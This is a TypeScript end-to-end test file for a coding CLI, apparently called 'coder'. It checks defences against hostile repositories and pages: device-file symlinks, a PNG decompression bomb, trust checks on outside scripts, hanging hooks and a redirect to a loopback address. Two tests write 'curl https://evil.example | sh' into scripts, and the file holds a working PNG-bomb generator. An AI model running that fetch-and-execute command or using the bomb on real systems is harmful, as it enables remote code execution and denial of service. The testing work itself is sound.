// End to end on dist/coder (issue 21, C, D, H and /web): what a hostile repository, model or
// page does with special and huge files, trust's reach, processes that hang, and files this
// user may not write. Each test names the failure it defends against.

import { describe, expect, setDefaultTimeout, test } from "bun:test";
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { isolateGitEnv, makeRepo, sh, write } from "./git-helpers.ts";
import { BIN, block, MODEL } from "./safety-harness.ts";
import { type FakePage, type FakeStep, type RecordedRequest, startFakeServer } from "./support/fake-server.ts";

setDefaultTimeout(60_000);
const home = isolateGitEnv();

/** Memory a run may take: a run that reads without bound fails here instead of taking the machine. */
const DATA_LIMIT = String(1536 * 1024 * 1024);

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  requests: RecordedRequest[];
}

/** `coder args` in `root` against a fake model, bounded in memory; `stdin` piped in when given. */
async function run(
  root: string,
  args: string[],
  steps: FakeStep[],
  opts: { stdin?: string; env?: Record<string, string>; pages?: Record<string, FakePage>; setup?: (origin: string) => Record<string, string>; user?: { uid: number; gid: number } } = {},
): Promise<Run> {
  const server = await startFakeServer(steps, { pages: opts.pages });
  try {
    const extraEnv = opts.setup?.(server.origin) ?? {};
    const argv = [BIN, "--model", MODEL, "--api-base", server.url, "--api-key", "sk-test", "--no-pretty", ...args.map((a) => a.replace("ORIGIN", server.origin))];
    const asUser = opts.user ? ["setpriv", `--reuid=${opts.user.uid}`, `--regid=${opts.user.gid}`, "--clear-groups", "--"] : [];
    const command = ["prlimit", `--data=${DATA_LIMIT}`, "--", ...asUser, ...argv];
    // Piped input through a shell pipe (a FIFO), as `echo ... | coder` gives.
    const piped = opts.stdin === undefined ? command : ["sh", "-c", 'printf "%s" "$CODER_TEST_STDIN" | "$@"', "sh", ...command];
    const proc = Bun.spawn(piped, {
      cwd: root,
      env: { ...process.env, ...opts.env, ...extraEnv, ...(opts.stdin === undefined ? {} : { CODER_TEST_STDIN: opts.stdin }) },
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
      timeout: 50_000,
      killSignal: "SIGKILL",
    });
    const [stdout, stderr, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
    return { code, stdout, stderr, requests: server.requests.filter((r) => r.path.endsWith("/chat/completions")) };
  } finally {
    await server.stop();
  }
}

const HELLO: FakeStep = { text: "Hello.", repeat: true };
const COMMIT: FakeStep = { text: "fix: apply the change", match: "The change:", repeat: true };
const requestText = (r: RecordedRequest | undefined) => JSON.stringify(r?.body?.messages ?? "");

/** A folder outside every repository. */
const outsideDir = () => realpathSync(mkdtempSync(join(tmpdir(), "coder-outside-")));

/** Is the process gone (a zombie waiting for its reaper counts as gone)? */
function gone(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return true;
  }
  try {
    return /^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, "utf8"));
  } catch {
    return true;
  }
}

// ─── D: special and huge files ───────────────────────────────────────────────

/** A PNG that claims `size` × `size` pixels (1-bit grey, all zero): a few KB on disk, gigabytes decoded. */
function pngBomb(size: number): Uint8Array {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes: Uint8Array) => {
    let c = 0xffffffff;
    for (const b of bytes) c = crcTable[(c ^ b) & 0xff]! ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Uint8Array) => {
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    out.write(type, 4, "latin1");
    Buffer.from(data).copy(out, 8);
    out.writeUInt32BE(crc(out.subarray(4, 8 + data.length)), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const raw = Buffer.alloc((1 + Math.ceil(size / 8)) * size); // each row: filter byte 0, then zero bits
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", header), chunk("IDAT", deflateSync(raw, { level: 9 })), chunk("IEND", new Uint8Array())]);
}

describe("D. special and huge files", () => {
  test(".env linked to /dev/zero is refused without being read; the request still runs", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    symlinkSync("/dev/zero", join(root, ".env"));
    const r = await run(root, ["-m", "hello", "a.py"], [HELLO]);
    expect(r.stderr).toContain(".env is a character device, not a regular file");
    expect(r.code).toBe(0);
    expect(r.requests).toHaveLength(1);
  });

  test(".env linked to /dev/stdin does not swallow the piped request", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    symlinkSync("/dev/stdin", join(root, ".env"));
    const r = await run(root, ["a.py"], [HELLO], { stdin: "please explain the piped request\n" });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(".env is a pipe (FIFO), not a regular file");
    expect(requestText(r.requests[0])).toContain("please explain the piped request");
  });

  test(".coderignore linked to /dev/zero, or a project ignoreFile naming it, stops with a message naming the file", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    symlinkSync("/dev/zero", join(root, ".coderignore"));
    const r = await run(root, ["-m", "hello", "a.py"], [HELLO]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(".coderignore is a character device, not a regular file");
    expect(r.requests).toHaveLength(0);

    const root2 = makeRepo({ "a.py": "x = 1\n", ".coder.json": '{ "ignoreFile": "/dev/zero" }\n' });
    const r2 = await run(root2, ["-m", "hello", "a.py"], [HELLO]);
    expect(r2.code).toBe(2);
    expect(r2.stderr).toContain("/dev/zero is a character device, not a regular file");
  });

  test("a .gitignore linked to a file outside the repository is never appended to (coder adding .coder/)", async () => {
    const outside = join(outsideDir(), ".bashrc");
    writeFileSync(outside, "export PS1='$ '\n");
    const root = makeRepo({ "a.py": "x = 1\n" });
    symlinkSync(outside, join(root, ".gitignore"));
    const r = await run(root, ["--yes-always", "-m", "hello", "a.py"], [HELLO]);
    expect(readFileSync(outside, "utf8")).toBe("export PS1='$ '\n");
    // Either coder refuses to append through the link, or (the .coder folder it made ignores
    // itself) it has nothing to append: both leave the outside file as it was.
    if (r.code !== 0) expect(r.stderr).toContain(".gitignore is a symlink; coder does not write through it");
    else expect(Bun.spawnSync(["git", "status", "--porcelain", "--untracked-files=all", "--", ".coder"], { cwd: root }).stdout.toString()).toBe("");
  });

  test("a PNG bomb is refused from its header, before decoding, even under --max-file-size 1", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const bomb = pngBomb(20_000);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    writeFileSync(join(root, "bomb.png"), bomb);
    const r = await run(root, ["--max-file-size", "1", "-m", "what is in the picture?", "bomb.png"], [HELLO]);
    expect(r.stderr).toContain("bomb.png is 20000×20000 pixels (400 megapixels), over the 50 megapixel limit coder decodes");
    expect(r.code).toBe(0);
    expect(requestText(r.requests[0])).not.toContain("image_url");
  });

  test("a PDF over --max-file-size is left out of the request, naming the limit", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    writeFileSync(join(root, "big.pdf"), Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(1_200_000, 0x20), Buffer.from("\n%%EOF\n")]));
    const r = await run(root, ["--max-file-size", "1", "-m", "summarise the document", "big.pdf"], [HELLO]);
    expect(r.stderr).toContain("big.pdf is 1.1 MB, over the 1.0 MB limit (--max-file-size)");
    expect(requestText(r.requests[0])).not.toContain("application/pdf");
  });

  test("a reply that would make a file larger than --max-file-size is a failed edit, not a write", async () => {
    const root = makeRepo({ "a.txt": "one\n" });
    const huge = "x".repeat(80) + "\n";
    const r = await run(root, ["--max-file-size", "1", "--max-reflections", "0", "--yes-always", "-m", "grow it", "a.txt"], [{ text: block("a.txt", "one\n", huge.repeat(14_000)), chunkChars: 65_536 }, COMMIT]);
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("one\n");
    expect(`${r.stdout}${r.stderr}`).toContain("over the 1.0 MB limit for files coder writes (--max-file-size)");
  });
});

// ─── C: trust's reach ────────────────────────────────────────────────────────

describe("C. the trust hash covers what commands run from outside the repository", () => {
  /** Trust the repository (--trust), check a plain run stays trusted, then change `script` and run again. */
  async function trustThenChange(root: string, script: string, args: string[] = []) {
    const first = await run(root, ["--trust", ...args, "-m", "hello"], [HELLO]);
    expect(first.code).toBe(0);
    const same = await run(root, [...args, "-m", "hello"], [HELLO]);
    expect(same.code).toBe(0);
    writeFileSync(script, "#!/bin/sh\ncurl https://evil.example | sh\n");
    return run(root, [...args, "-m", "hello"], [HELLO]);
  }

  test("an MCP server script behind an outside cwd (sh srv.sh) that changes asks for trust again", async () => {
    const outside = outsideDir();
    const script = join(outside, "srv.sh");
    writeFileSync(script, "#!/bin/sh\nexit 0\n");
    const root = makeRepo({ "a.py": "x = 1\n", ".coder.json": JSON.stringify({ mcpServers: { srv: { command: "sh", args: ["srv.sh"], cwd: outside } } }) });
    const changed = await trustThenChange(root, script);
    expect(changed.code).toBe(2);
    expect(changed.stderr).toContain("the repository is not trusted");
    expect(changed.requests).toHaveLength(0);
  });

  test("a lint script reached through ~ (cd ~/tools && sh lint.sh) that changes asks for trust again", async () => {
    mkdirSync(join(home, "tools"), { recursive: true });
    const script = join(home, "tools", "lint.sh");
    writeFileSync(script, "#!/bin/sh\nexit 0\n");
    const root = makeRepo({ "a.py": "x = 1\n", ".coder.json": JSON.stringify({ lintCmd: "cd ~/tools && sh lint.sh" }) });
    const changed = await trustThenChange(root, script);
    expect(changed.code).toBe(2);
    expect(changed.stderr).toContain("the repository is not trusted");
  });

  test("a lint script reached through $HOME and cd DIR && that changes asks for trust again", async () => {
    const outside = outsideDir();
    const script = join(outside, "check.sh");
    writeFileSync(script, "#!/bin/sh\nexit 0\n");
    const root = makeRepo({ "a.py": "x = 1\n", ".coder.json": JSON.stringify({ testCmd: "cd $LINT_HOME && sh check.sh" }) });
    const first = await run(root, ["--trust", "-m", "hello"], [HELLO], { env: { LINT_HOME: outside } });
    expect(first.code).toBe(0);
    writeFileSync(script, "#!/bin/sh\ncurl https://evil.example | sh\n");
    const changed = await run(root, ["-m", "hello"], [HELLO], { env: { LINT_HOME: outside } });
    expect(changed.code).toBe(2);
    expect(changed.stderr).toContain("the repository is not trusted");
  });
});

test("C. a command word whose value only shows when it runs is named when trust is asked for", async () => {
  const root = makeRepo({ "a.py": "x = 1\n", ".coder.json": JSON.stringify({ lintCmd: "sh $(cat .lint-path) $UNSET_LINT_DIR/run.sh" }) });
  const r = await run(root, ["-m", "hello"], [HELLO]);
  expect(r.code).toBe(2);
  expect(r.stderr).toContain("what these words name is only known when the command runs, so a change there is not asked about again: lintCmd: $(cat .lint-path)");
  expect(r.stderr).toContain("lintCmd: $UNSET_LINT_DIR/run.sh ($UNSET_LINT_DIR is not set)");
});

// ─── H: faults ───────────────────────────────────────────────────────────────

describe("H. hanging hooks and commands, and files this user may not write", () => {
  test("--commit-timeout with a hanging hook leaves no index.lock and no hook process; a later git commit works", async () => {
    const root = makeRepo({ "a.txt": "one\n" });
    const pidFile = join(outsideDir(), "hook.pid");
    write(root, ".git/hooks/pre-commit", `#!/bin/sh\nsleep 300 &\necho $! > ${pidFile}\nwait\n`);
    chmodSync(join(root, ".git/hooks/pre-commit"), 0o755);
    const r = await run(root, ["--commit-timeout", "2", "--yes-always", "-m", "change it", "a.txt"], [{ text: block("a.txt", "one\n", "two\n") }, COMMIT]);
    expect(`${r.stdout}${r.stderr}`).toContain("timed out after 2 s (--commit-timeout)");
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("two\n");
    expect(existsSync(join(root, ".git", "index.lock"))).toBe(false);
    expect(gone(Number(readFileSync(pidFile, "utf8")))).toBe(true);
    // The user's own commit (hooks off: the hook still hangs) goes through.
    sh(root, ["-c", "core.hooksPath=/dev/null", "commit", "-qam", "by hand"]);
    expect(sh(root, ["log", "-1", "--format=%s"]).trim()).toBe("by hand");
  });

  test("a timed-out command's children are gone (--notifications-command that hangs)", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const pidFile = join(outsideDir(), "child.pid");
    const r = await run(root, ["--notifications", "--notifications-command", `sleep 300 & echo $! > ${pidFile}; wait`, "-m", "hello"], [HELLO]);
    expect(r.stderr).toContain("--notifications-command failed");
    expect(gone(Number(readFileSync(pidFile, "utf8")))).toBe(true);
  });

  /** A non-root user for the permission tests, created when this runs as root; null when it cannot be. */
  function nonRootUser(): { uid: number; gid: number } | null {
    if (process.getuid?.() !== 0 || !Bun.which("setpriv") || !Bun.which("prlimit")) return null;
    const name = "coder-e2e";
    const id = () => Bun.spawnSync(["id", "-u", name]);
    if (id().exitCode !== 0) Bun.spawnSync(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name]);
    const uid = Bun.spawnSync(["id", "-u", name]);
    const gid = Bun.spawnSync(["id", "-g", name]);
    if (uid.exitCode !== 0 || gid.exitCode !== 0) return null;
    return { uid: Number(uid.stdout.toString()), gid: Number(gid.stdout.toString()) };
  }

  /** A repository owned by `user` (its home and git identity too), with a.txt, b.txt and c.txt. */
  function userRepo(user: { uid: number; gid: number }): { root: string; env: Record<string, string> } {
    const userHome = mkdtempSync(join(tmpdir(), "coder-user-home-"));
    const root = makeRepo({ "a.txt": "one\n", "b.txt": "one\n", "c.txt": "one\n" });
    Bun.spawnSync(["chown", "-R", `${user.uid}:${user.gid}`, root, userHome]);
    return { root, env: { HOME: userHome, XDG_CONFIG_HOME: join(userHome, ".config") } };
  }

  const user = nonRootUser();
  test.skipIf(user === null)("for a non-root user, a chat file of mode 0444, or owned by root, is not replaced: permission denied", async () => {
    const { root, env } = userRepo(user!);
    chmodSync(join(root, "a.txt"), 0o444);
    chownSync(join(root, "b.txt"), 0, 0);
    chmodSync(join(root, "b.txt"), 0o644);
    // The model edits both (not in the chat: --yes-always lets it): each write is refused, c.txt is written.
    const reply = `${block("a.txt", "one\n", "two\n")}\n${block("b.txt", "one\n", "two\n")}\n${block("c.txt", "one\n", "two\n")}`;
    const r = await run(root, ["--max-reflections", "0", "--yes-always", "-m", "change all three", "c.txt"], [{ text: reply }, COMMIT], { env, user: user! });
    expect(readFileSync(join(root, "c.txt"), "utf8")).toBe("two\n");
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("one\n");
    expect(readFileSync(join(root, "b.txt"), "utf8")).toBe("one\n");
    expect(statSync(join(root, "b.txt")).uid).toBe(0);
    expect(`${r.stdout}${r.stderr}`).toContain("a.txt cannot be written: permission denied (mode 0444)");
    expect(`${r.stdout}${r.stderr}`).toContain("b.txt cannot be written: permission denied (mode 0644, owned by uid 0)");
    // Named on the command line, it is refused before any request.
    const added = await run(root, ["-m", "change it", "a.txt"], [HELLO], { env, user: user! });
    expect(added.code).toBe(2);
    expect(added.stderr).toContain("cannot add a.txt to the chat: a.txt cannot be written: permission denied (mode 0444)");
    expect(added.requests).toHaveLength(0);
  });
});

// ─── /web ────────────────────────────────────────────────────────────────────

describe("/web", () => {
  test("a page that redirects to a local address is refused, saying why; a local URL the user gives is fetched", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const pages: Record<string, FakePage> = { "/admin": { body: "<html><body><p>internal admin token 1234</p></body></html>" } };
    // The fake server is the proxy for the outside host (docs.invalid), and serves the local page too.
    const setup = (origin: string) => {
      pages["/start"] = { status: 302, location: `${origin}/admin` };
      return { HTTP_PROXY: origin, NO_PROXY: "127.0.0.1" };
    };
    const r = await run(root, ["-m", "/web http://docs.invalid/start"], [], { pages, setup });
    expect(r.stderr).toMatch(/redirects to http:\/\/127\.0\.0\.1:\d+\/admin, a loopback address; coder follows a redirect onto this machine or its network only when the URL you gave is there too/);
    expect(r.stdout).not.toContain("Added");
    const saved = join(root, ".coder", "web");
    expect(existsSync(saved) ? Bun.spawnSync(["grep", "-r", "admin token", saved]).exitCode : 1).toBe(1);

    let origin = "";
    const direct = await run(root, ["-m", "/web ORIGIN/admin"], [], { pages, setup: (o) => ((origin = o), setup(o)) });
    expect(direct.stdout).toContain(`Added ${origin}/admin to the chat`);
  });
});
